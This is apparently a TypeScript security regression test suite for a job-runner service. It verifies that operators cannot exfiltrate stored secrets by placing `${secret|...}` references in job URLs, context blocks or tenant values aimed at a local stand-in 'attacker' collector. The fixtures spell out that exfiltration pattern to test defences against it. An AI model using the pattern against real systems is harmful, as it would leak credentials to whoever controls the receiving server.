// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${secret|..} is literal job text here
/**
 * Issue 16, item 3: referencing a secret is reading it. An operator could write a job that
 * sends `${secret|scope/name}` to a server of its own and deploy it; the worker resolved the
 * value and made the request. Every way a secret reference reaches what a worker runs is
 * walked here: the job's input, its own `context:` block, a tenant context value rendered in
 * by `{{key}}`, a job saved by an admin and staged by an operator, and a context change
 * after an operator's deploy (the cloud worker resolves secrets itself, so it is the sharpest).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApp, testApp } from '../helpers/app.ts';
import { apiKeyToken, bearer, bootstrapTestAdmin, tokenFor } from '../helpers/auth.ts';
import { cloudTick } from '../helpers/cloud-tick.ts';
import { json, jsonInit } from '../helpers/http.ts';

const DB_PASSWORD = 'db-password-7c4e1a9b3f';
let t: TestApp;
let admin: Record<string, string>;
let operator: Record<string, string>;
let worker: Record<string, string>;
let upstream: Server;
const received: string[] = [];

beforeAll(async () => {
  t = await testApp();
  admin = bearer(await bootstrapTestAdmin(t));
  operator = bearer(await tokenFor(t, { role: 'operator' }));
  const created = await json(await t.request('/api/workers', jsonInit('POST', { id: 'sw1' }, admin)));
  worker = bearer(await apiKeyToken(t, created.key));
  expect(
    (await t.request('/api/secrets/db/pass', jsonInit('PUT', { value: DB_PASSWORD }, admin))).status,
  ).toBe(204);
  upstream = createServer((req, res) => {
    received.push(req.url ?? '');
    res.end('{"ok":true}');
  });
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
});
afterAll(async () => {
  upstream.close();
  await t.close();
});

const attacker = () => `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/collect`;

function jobYaml(name: string, url: string, context = ''): string {
  return `name: ${name}\n${context}input:\n  http-poll:\n    url: '${url}'\n    json: true\noutput:\n  print: {}\n`;
}

const put = (name: string, yaml: string, headers: Record<string, string>) =>
  t.request(`/api/jobs/${name}`, {
    method: 'PUT',
    headers: { ...headers, 'content-type': 'application/yaml' },
    body: yaml,
  });
const deploy = (name: string, workers: string[], headers: Record<string, string>) =>
  t.request(`/api/jobs/${name}/deploy`, jsonInit('POST', { workers }, headers));
const stage = (name: string, headers: Record<string, string>) =>
  t.request(`/api/jobs/${name}/stage`, jsonInit('POST', {}, headers));
const setGlobal = (values: Record<string, unknown>) =>
  t.request('/api/contexts/update-global', jsonInit('POST', values, admin));

async function expectSecretRefused(res: Response, secret = 'db/pass') {
  expect(res.status).toBe(403);
  const body = await json(res);
  expect(body.error.code).toBe('forbidden');
  expect(body.error.message).toContain(secret);
}

async function stored(name: string) {
  const res = await t.request(`/api/jobs/${name}`, { headers: admin });
  return res.status === 404 ? undefined : await json(res);
}

describe('an operator and secret references', () => {
  it('may not save a job whose input references a secret', async () => {
    const res = await put(
      'steal-input',
      jobYaml('steal-input', `${attacker()}?p=\${secret|db/pass}`),
      operator,
    );
    await expectSecretRefused(res);
    expect(await stored('steal-input')).toBeUndefined();
  });

  it('may not save a job whose own context block holds a secret reference', async () => {
    const yaml = jobYaml('steal-ctx', `${attacker()}?p={{pw}}`, "context:\n  pw: '${secret|db/pass}'\n");
    await expectSecretRefused(await put('steal-ctx', yaml, operator));
    expect(await stored('steal-ctx')).toBeUndefined();
  });

  it('may not deploy a job into which a tenant context renders a secret reference', async () => {
    expect((await setGlobal({ db_password: '${secret|db/pass}' })).status).toBe(200);
    const saved = await put(
      'steal-global',
      jobYaml('steal-global', `${attacker()}?p={{db_password}}`),
      operator,
    );
    expect(saved.status).toBe(201);
    await expectSecretRefused(await deploy('steal-global', ['sw1'], operator));
    expect(await stored('steal-global')).toMatchObject({
      state: 'saved',
      staged_version: null,
      deployments: [],
    });
  });

  it('may not stage or deploy a job an admin saved with a secret; an admin may', async () => {
    const yaml = jobYaml('admin-job', `${attacker()}?p=\${secret|db/pass}`);
    expect((await put('admin-job', yaml, admin)).status).toBe(201);
    await expectSecretRefused(await deploy('admin-job', ['sw1'], operator));
    await expectSecretRefused(await stage('admin-job', operator));
    expect(await stored('admin-job')).toMatchObject({ state: 'saved', deployments: [] });
    expect((await deploy('admin-job', ['sw1'], admin)).status).toBe(200);
    // A re-stage by an operator would re-approve the secret for the running deployment.
    await expectSecretRefused(await stage('admin-job', operator));
  });

  it('still saves, stages and deploys jobs that reference no secret', async () => {
    const yaml = jobYaml('plain', `${attacker()}?p=\${dyn|MODE||x}`);
    expect((await put('plain', yaml, operator)).status).toBe(201);
    expect((await stage('plain', operator)).status).toBe(200);
    expect((await deploy('plain', ['sw1'], operator)).status).toBe(200);
  });
});

describe('a secret reference arriving after the deploy', () => {
  it('is not run on the cloud worker: the job gets an error until an admin stages it', async () => {
    expect((await setGlobal({ note: 'hello' })).status).toBe(200);
    expect(
      (await put('cloud-note', jobYaml('cloud-note', `${attacker()}?n={{note}}`), operator)).status,
    ).toBe(201);
    expect((await deploy('cloud-note', ['cloud'], operator)).status).toBe(200);
    expect((await setGlobal({ note: '${secret|db/pass}' })).status).toBe(200);

    await cloudTick(t.deps);
    expect(received.join('\n')).not.toContain(DB_PASSWORD);
    const errors = await json(
      await t.request('/api/events?type=job-errors&job=cloud-note', { headers: admin }),
    );
    expect(JSON.stringify(errors.events)).toContain('db/pass');
  });

  it('is not handed to an external worker: the job comes with an error and the secret stays sealed', async () => {
    expect((await setGlobal({ note2: 'hello' })).status).toBe(200);
    expect(
      (await put('worker-note', jobYaml('worker-note', `${attacker()}?n={{note2}}`), operator)).status,
    ).toBe(201);
    expect((await deploy('worker-note', ['sw1'], operator)).status).toBe(200);
    expect((await setGlobal({ note2: '${secret|db/pass}' })).status).toBe(200);

    const jobs = await json(await t.request('/api/worker/jobs', { headers: worker }));
    const job = jobs.find((j: { name: string }) => j.name === 'worker-note');
    expect(job.definition).toBeNull();
    expect(job.error).toContain('db/pass');
    const reveal = await t.request(
      '/api/worker/secrets/resolve',
      jsonInit('POST', { job: 'worker-note', refs: ['db/pass'] }, worker),
    );
    expect(reveal.status).toBe(403);
  });

  it('runs once an admin stages it: the admin approved the secret for that job', async () => {
    expect((await setGlobal({ db_password: '${secret|db/pass}' })).status).toBe(200);
    const yaml = jobYaml('admin-global', `${attacker()}?p={{db_password}}`);
    expect((await put('admin-global', yaml, admin)).status).toBe(201);
    expect((await deploy('admin-global', ['sw1'], admin)).status).toBe(200);
    const jobs = await json(await t.request('/api/worker/jobs', { headers: worker }));
    const job = jobs.find((j: { name: string }) => j.name === 'admin-global');
    expect(job.definition.input['http-poll'].url).toContain('${secret|db/pass}');
    const reveal = await t.request(
      '/api/worker/secrets/resolve',
      jsonInit('POST', { job: 'admin-global', refs: ['db/pass'] }, worker),
    );
    expect(reveal.status).toBe(200);
    expect((await json(reveal)).values).toEqual({ 'db/pass': DB_PASSWORD });
  });
});
